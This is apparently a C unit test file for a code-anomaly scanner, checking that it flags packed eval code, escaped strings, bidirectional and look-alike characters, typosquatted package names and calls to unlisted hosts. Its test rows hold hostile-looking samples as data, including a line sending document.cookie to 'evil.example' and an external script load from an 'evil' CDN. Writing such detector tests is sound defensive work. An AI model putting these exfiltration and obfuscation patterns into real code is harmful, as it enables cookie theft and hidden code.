/*
 * test_anomaly.c - what a program hides or reaches for is told; what programs usually do is not.
 */
#include "anomaly.h"

#include <string.h>

#include "testing.h"

static const struct row {
    const char *path;
    const char *text;
    const char *rule; /* of one finding; NULL: none at all */
} row[] = {
    /* bad and ok, in turn */
    {"a.js", "eval(atob('YWxlcnQoMSk='))", "cdr.anomaly.packed-code"},
    {"a.js", "const data = JSON.parse(atob(part));", NULL},
    {"a.js", "new Function(unescape('%61%6c'))()", "cdr.anomaly.packed-code"},
    {"a.js", "new Function('a', 'b', 'return a + b')", NULL},
    {"a.js", "eval(function(p,a,c,k,e,d){return p}('0 1',2,2,''.split('|'),0,{}))",
     "cdr.anomaly.packed-code"},
    {"a.js", "setTimeout(function () { show(atob(x)); }, 100)", NULL},
    {"a.js", "setTimeout(() => decodeURIComponent(location.hash), 5)", NULL},
    {"a.py", "exec(base64.b64decode('aW1wb3J0IG9z'))", "cdr.anomaly.packed-code"},
    {"a.py", "cursor.exec('select 1')\ndata = base64.b64decode(text)\n", NULL},
    {"a.py", "assert (json.loads(base64.b64decode(x)) == y)\nexec(json.loads(x)['a'])\n", NULL},
    {"a.py", "exec(marshal.loads(x))\n", "cdr.anomaly.packed-code"},
    {"a.php", "<?php eval(gzinflate(base64_decode('80jNycnXUQAA')));", "cdr.anomaly.packed-code"},
    {"a.php", "<?php $image = base64_decode($text);", NULL},
    {"a.html", "<p>Hi</p><script>eval(atob(x))</script>", "cdr.anomaly.packed-code"},
    {"a.html", "<p>We never call eval(atob(x)) in a page.</p>", NULL},
    {"a.js", "x = '\\x61\\x6c\\x65\\x72\\x74\\x28\\x31\\x29\\x61\\x6c\\x65\\x72\\x74'",
     "cdr.anomaly.escaped-text"},
    {"a.js", "x = /[\\u0300-\\u036f\\u0483-\\u0487\\u0591-\\u05bd\\u0610-\\u061a\\u064b-\\u065f]/",
     NULL},
    {"a.js", "x = 'caf\\u00e9 \\x1b[31mred\\x1b[0m'", NULL},
    {"a.js", "x = String.fromCharCode(104,101,108,108,111,32,119,111,114,108,100,33)",
     "cdr.anomaly.escaped-text"},
    {"a.js", "x = String.fromCharCode(65 + i) + String.fromCharCode(13, 10)", NULL},
    {"a.js",
     "var _0x3fa2=['a'],_0x11bc=_0x3fa2[0],_0x22aa=_0x11bc+_0x3fa2;_0x22aa(_0x11bc,_0x3fa2,_0x22aa,"
     "_0x11bc,_0x3fa2,_0x22aa,_0x11bc)",
     "cdr.anomaly.mangled-names"},
    {"a.js", "var mask = 0x3fa2, other = 0x11bc; _0 = mask & other;", NULL},
    {"a.js", "if (level != \"user\xe2\x80\xae \xe2\x81\xa6// only admins\xe2\x81\xa9\") {}",
     "cdr.anomaly.bidirectional"},
    {"a.js", "const hello = '\xd7\xa9\xd7\x9c\xd7\x95\xd7\x9d\xe2\x80\x8f';", NULL},
    {"a.js",
     "function is\xd0\x90"
     "dmin() {}",
     "cdr.anomaly.look-alike-name"},
    {"a.js", "const \xd0\xb8\xd0\xbc\xd1\x8f = 1; const \xce\x94t = 2; const na\xc3\xafve = 3;",
     NULL},
    {"a.js", "const ad\xe2\x80\x8bmin = 1;", "cdr.anomaly.invisible-name"},
    {"a.js", "const wave = '\xf0\x9f\x91\xa9\xe2\x80\x8d\xf0\x9f\x92\xbb';", NULL},
    {"a.js", "fetch('http://203.0.113.9/c')", "cdr.anomaly.numbered-host"},
    {"a.js", "fetch('http://127.0.0.1:8080/c'); fetch('/api'); log('http://203.0.113.9/c')", NULL},
};

static struct job job;

static struct gate_findings look(struct str text, const char *path,
                                 const struct gate_policy *policy, const char *before)
{
    const struct gate *gate = gate_begin(job.arena);
    struct gate_findings found = gate_findings_in(job.arena, 1000);
    const struct gate_asked asked = {.kinds = GATE_ANOMALY,
                                     .path = str_of(path),
                                     .policy = policy,
                                     .has_before = before != NULL,
                                     .before = str_of(before)};
    gate_scan(gate, text, &asked, &found);
    return found;
}

static void each_row_has_what_it_has(void **state)
{
    (void)state;
    for (size_t i = 0; i < sizeof row / sizeof row[0]; i++) {
        const struct gate_findings found = look(str_of(row[i].text), row[i].path, NULL, NULL);
        bool is_there = row[i].rule == NULL && found.count == 0;
        for (size_t f = 0; f < found.count; f++) {
            is_there =
                is_there || (row[i].rule != NULL && strcmp(found.item[f].rule, row[i].rule) == 0);
        }
        expect(is_there, "%zu: %s: %zu found, first %s", i, row[i].text, found.count,
               found.count == 0 ? "-" : found.item[0].rule);
    }
}

static void a_blob_is_told_and_a_picture_is_not(void **state)
{
    (void)state;
    struct buf blob = buf_begin(job.arena);
    struct buf picture = buf_begin(job.arena);
    uint64_t seed = 5;
    buf_str(&blob, STR("const payload = \""));
    buf_str(&picture, STR("const logo = \"data:image/png;base64,"));
    for (size_t i = 0; i < 8000; i++) {
        static const char letters[] =
            "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/";
        const char letter = letters[draw(&seed) % 64];
        buf_u8(&blob, (uint8_t)letter);
        buf_u8(&picture, (uint8_t)letter);
    }
    buf_str(&blob, STR("\";"));
    buf_str(&picture, STR("\";"));
    const struct gate_findings found = look(buf_text(&blob), "a.js", NULL, NULL);
    expect(found.count == 1 && strcmp(found.item[0].rule, "cdr.anomaly.blob") == 0, "%zu",
           found.count);
    expect(look(buf_text(&picture), "a.js", NULL, NULL).count == 0, "a picture");
}

static const struct str package[] = {{"react", 5},   {"lodash", 6},   {"@shop/ui", 8},
                                     {"express", 7}, {"requests", 8}, {"python-dateutil", 15},
                                     {"left-pad", 8}};
static const struct str host[] = {{"shop.example", 12}, {"*.cdn.example", 13}};
static const struct gate_policy policy = {.has_packages = true,
                                          .package = package,
                                          .package_count = sizeof package / sizeof package[0],
                                          .has_hosts = true,
                                          .host = host,
                                          .host_count = sizeof host / sizeof host[0]};

static const struct row allowed_row[] = {
    {"a.js", "import React from 'react'; const fs = require('node:fs'); require('path')", NULL},
    {"a.js", "import x from './react2'; import y from 'lodash/fp'; import '@shop/ui/button.css'",
     NULL},
    {"a.js", "import _ from 'lodahs'", "cdr.anomaly.near-package"},
    {"a.js", "const e = require('expres')", "cdr.anomaly.near-package"},
    {"a.js", "await import('@ui/shop')", "cdr.anomaly.near-package"},
    {"a.js", "import x from 'leftpad'", "cdr.anomaly.near-package"},
    {"a.js", "import x from 'totally-invented-thing'", "cdr.anomaly.unknown-package"},
    {"a.py", "import requests\nimport os, sys\nfrom json import loads\n", NULL},
    {"a.py", "import reqeusts\n", "cdr.anomaly.near-package"},
    {"a.py", "import numpy as np\n", NULL}, /* the name of an import is not that of its package */
    {"sub/package.json",
     "{\"name\": \"x\", \"dependencies\": {\"react\": \"1\", \"reactt\": \"2\"}}",
     "cdr.anomaly.near-package"},
    {"requirements.txt", "requests==2.0\npython_dateutil>=1\n", "cdr.anomaly.near-package"},
    {"requirements-dev.txt", "# tools\nrequests[socks]>=2\nleft-pad\n", NULL},
    {"a.js",
     "fetch('https://shop.example/api'); navigator.sendBeacon('https://a.cdn.example/b', d)", NULL},
    {"a.js", "navigator.sendBeacon('https://evil.example/b', document.cookie)",
     "cdr.anomaly.unlisted-host"},
    {"a.js", "x.open('POST', 'https://u@evil.example:444/b')", "cdr.anomaly.unlisted-host"},
    {"a.js", "const help = 'https://docs.example/help'; // fetch('https://evil.example')", NULL},
    {"a.html", "<a href=\"https://docs.example/\">help</a><img src='/a.png'>", NULL},
    {"a.html", "<img src=\"https://pixel.example/p.gif?u=1\">", "cdr.anomaly.unlisted-host"},
    {"a.html", "<script async src=//cdn.evil.example/x.js></script>", "cdr.anomaly.unlisted-host"},
    {"a.html", "<form method=post action='https://collect.example/f'>",
     "cdr.anomaly.unlisted-host"},
    {"a.html", "<link rel=stylesheet href=\"https://x.cdn.example/a.css\">", NULL},
};

static void what_is_not_listed_is_told(void **state)
{
    (void)state;
    for (size_t i = 0; i < sizeof allowed_row / sizeof allowed_row[0]; i++) {
        const struct row *one = &allowed_row[i];
        const struct gate_findings found = look(str_of(one->text), one->path, &policy, NULL);
        expect(found.count == (one->rule != NULL) &&
                   (one->rule == NULL || strcmp(found.item[0].rule, one->rule) == 0),
               "%zu: %s: %zu found, first %s", i, one->text, found.count,
               found.count == 0 ? "-" : found.item[0].rule);
    }
}

static void what_is_new_is_told_once(void **state)
{
    (void)state;
    const char *before = "import a from 'react'; fetch('https://shop.example/x')";
    const struct str now =
        STR("import a from 'react'; import b from 'lodash'; fetch('https://shop.example/y');\n"
            "fetch('https://new.example/z'); localStorage.a = 1; localStorage.b = 2;");
    const struct gate_findings found = look(now, "a.js", NULL, before);
    expect(found.count == 3, "%zu", found.count);
    for (size_t i = 0; i < found.count; i++) {
        expect(strcmp(found.item[i].rule, "cdr.anomaly.new-behaviour") == 0, "%s",
               found.item[i].rule);
    }
    expect(look(now, "a.js", NULL, now.ptr).count == 0, "the same");
    expect(look(now, "a.js", NULL, "").count > 3, "all is new");
}

static int begin(void **state)
{
    (void)state;
    job_begin(&job, host_real());
    return 0;
}

static int end(void **state)
{
    (void)state;
    job_end(&job);
    return 0;
}

int main(void)
{
    const struct CMUnitTest tests[] = {
        cmocka_unit_test_setup_teardown(each_row_has_what_it_has, begin, end),
        cmocka_unit_test_setup_teardown(a_blob_is_told_and_a_picture_is_not, begin, end),
        cmocka_unit_test_setup_teardown(what_is_not_listed_is_told, begin, end),
        cmocka_unit_test_setup_teardown(what_is_new_is_told_once, begin, end),
    };
    return cmocka_run_group_tests(tests, NULL, NULL);
}
